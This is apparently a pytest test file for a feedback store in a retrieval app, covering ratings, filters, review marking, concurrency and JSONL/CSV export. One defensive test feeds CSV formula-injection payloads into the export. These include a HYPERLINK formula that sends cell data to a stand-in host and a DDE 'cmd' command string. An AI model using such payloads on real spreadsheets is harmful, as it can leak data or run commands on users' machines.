"""Feedback storage: ratings, filters, review, export, and writers that never lose a rating."""

from __future__ import annotations

import csv
import io
import json

import pytest

from rag.errors import DatabaseError, FeedbackError
from rag.ops.database import open_db
from rag.ops.feedback import (
    FEEDBACK_REASONS,
    count_feedback,
    export_feedback,
    feedback_facets,
    get_feedback,
    list_feedback,
    mark_reviewed,
    record_feedback,
)
from tests.conftest import run_in_threads
from tests.ops.conftest import run_in_processes
from tests.ops.test_database import held_exclusive
from tests.ops.test_runlog import make_run


def test_record_feedback_keeps_what_reproduces_the_answer(db):
    run = make_run()
    fid = record_feedback(db, run, 0, "incorrect", "  wrong number ", "ana")
    row = get_feedback(db, fid)
    for key in ("run_id", "question", "rewritten_query", "answer", "passages", "cited_chunk_ids",
                "verification", "backend", "model", "prompt_version", "index_version",
                "tokens_in", "tokens_out", "session_id", "support_score"):  # fmt: skip
        assert row[key] == run[key], key
    assert row["total_ms"] == 1320.0
    assert row["run_created_at"] == "2026-03-01T09:30:00.000000+00:00"
    assert row["comment"] == "wrong number" and row["user"] == "ana" and row["reviewed"] == 0


def test_rerating_updates_and_reopens_review(db):
    run = make_run()
    fid = record_feedback(db, run, 0, "incorrect", None, "ana")
    mark_reviewed(db, fid, "fixed", "lead")
    assert record_feedback(db, run, 1, None, "ok now", "ana") == fid
    row = get_feedback(db, fid)
    assert (row["score"], row["reason"], row["comment"], row["reviewed"]) == (1, None, "ok now", 0)
    assert count_feedback(db) == 1
    assert record_feedback(db, run, 1, None, None, "ben") != fid
    assert count_feedback(db) == 2


@pytest.mark.parametrize(
    ("score", "reason", "message"),
    [(2, None, "score"), (-1, None, "score"), (0, "rude", "unknown reason")],
)
def test_record_feedback_rejects_bad_values(db, score, reason, message):
    with pytest.raises(FeedbackError, match=message):
        record_feedback(db, make_run(), score, reason, None, "ana")
    with pytest.raises(FeedbackError, match="run id"):
        record_feedback(db, make_run(run_id=""), 1, None, None, "ana")
    assert count_feedback(db) == 0


def test_rating_on_a_locked_database_raises_database_error(tmp_path):
    path = tmp_path / "app.db"
    db = open_db(path, busy_timeout=0.1)
    fid = record_feedback(db, make_run(), 0, "incorrect", None, "ana")
    with held_exclusive(path):
        with pytest.raises(DatabaseError, match="is busy") as caught:
            record_feedback(db, make_run(), 1, None, None, "ben")
        with pytest.raises(DatabaseError, match="is busy"):
            mark_reviewed(db, fid, "done", "lead")
    assert str(path) in str(caught.value) and "Try again" in str(caught.value)
    assert count_feedback(db) == 1 and get_feedback(db, fid)["reviewed"] == 0
    db.close()


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({}, "edcba"),
        ({"rating": 1}, "ea"),
        ({"rating": 0}, "dcb"),
        ({"reason": "incomplete"}, "c"),
        ({"since": "2026-03-02", "until": "2026-03-04"}, "dcb"),
        ({"until": "2026-03-01"}, "a"),
        ({"since": "2026-03-04T12:00:00+00:00"}, "ed"),
        ({"prompt_version": "v2"}, "edc"),
        ({"model": "m-big"}, "dc"),
        ({"user": "ana"}, "ca"),
        ({"document": "handbook.pdf"}, "ba"),
        ({"document": "retrieved-only.pdf"}, "d"),
        ({"reviewed": True}, "b"),
        ({"reviewed": False}, "edca"),
        ({"rating": 0, "prompt_version": "v2", "user": "cy"}, "d"),
        ({"limit": 2}, "ed"),
    ],
)
def test_list_feedback_filters(db, rated, filters, expected):
    got = [row["id"] for row in list_feedback(db, **filters)]
    assert got == [rated[tag] for tag in expected]


def test_facets_list_filter_values(db, rated):
    facets = feedback_facets(db)
    assert facets["prompt_version"] == ["v1", "v2"]
    assert facets["user"] == ["ana", "ben", "cy"]
    assert facets["document"] == ["handbook.pdf", "policy.docx", "retrieved-only.pdf", "vpn.md"]


def test_mark_reviewed_persists_across_connections(tmp_path):
    path = tmp_path / "app.db"
    fid = record_feedback(open_db(path), make_run(), 0, "other", None, "ana")
    mark_reviewed(open_db(path), fid, " rewrote section 4 ", "lead")
    row = get_feedback(open_db(path), fid)
    assert (row["reviewed"], row["reviewer"], row["resolution_note"]) == (
        1,
        "lead",
        "rewrote section 4",
    )
    assert row["reviewed_at"]
    with pytest.raises(FeedbackError, match="No rating with id 999"):
        mark_reviewed(open_db(path), 999, "", "lead")


def test_export_round_trips(db, rated):
    rows = list_feedback(db)
    lines = export_feedback(rows, "jsonl").splitlines()
    assert [json.loads(line) for line in lines] == rows
    parsed = list(csv.DictReader(io.StringIO(export_feedback(rows, "csv"))))
    assert len(parsed) == len(rows)
    for row, back in zip(rows, parsed, strict=True):
        assert back.keys() == row.keys()
        assert json.loads(back["passages"]) == row["passages"]
        assert json.loads(back["cited_sources"]) == row["cited_sources"]
        assert back["question"] == row["question"] and int(back["id"]) == row["id"]
        assert back["reason"] == (row["reason"] or "")
    assert export_feedback([], "csv") == "\r\n"
    with pytest.raises(FeedbackError, match="format"):
        export_feedback(rows, "xml")


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
     "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
)  # fmt: skip
def test_csv_export_neutralises_formulas_and_jsonl_stays_exact(text):
    rows = [{"id": 7, "question": text, "comment": f"see {text}", "score": -1, "ms": -2.5}]
    [back] = csv.DictReader(io.StringIO(export_feedback(rows, "csv"), newline=""))
    assert back["question"] == "'" + text  # a spreadsheet shows it as text
    assert back["comment"] == f"see {text}"  # only a leading formula character matters
    assert (back["id"], back["score"], back["ms"]) == ("7", "-1", "-2.5")  # numbers stay numbers
    assert [json.loads(export_feedback(rows, "jsonl"))] == rows


def test_feedback_reasons_are_the_agreed_list():
    assert FEEDBACK_REASONS == ("incorrect", "wrong or missing citation", "incomplete",
                                "out of date", "unsafe or inappropriate", "other")  # fmt: skip


# --- concurrency -----------------------------------------------------------------------------


def _write_feedback(path, worker: int, n: int = 500) -> None:
    db = open_db(path)
    for i in range(n):
        record_feedback(db, make_run(run_id=f"w{worker}-{i}"), i % 2, None, None, f"u{worker}")
    db.close()


def test_eight_threads_sharing_one_connection_lose_no_feedback(db):
    def work(worker):
        for i in range(500):
            record_feedback(db, make_run(run_id=f"r{i}"), 1, None, None, f"user{worker}")

    run_in_threads(work)
    assert count_feedback(db) == 4000


def test_eight_threads_with_own_connections_lose_no_feedback(tmp_path):
    path = tmp_path / "app.db"
    run_in_threads(lambda w: _write_feedback(path, w))
    assert count_feedback(open_db(path)) == 4000


def test_eight_processes_lose_no_feedback(tmp_path, spawn_safe_main):
    path = tmp_path / "app.db"
    run_in_processes(_write_feedback, path)
    db = open_db(path)
    assert count_feedback(db) == 4000
    assert len(list_feedback(db, rating=1, limit=10_000)) == 2000
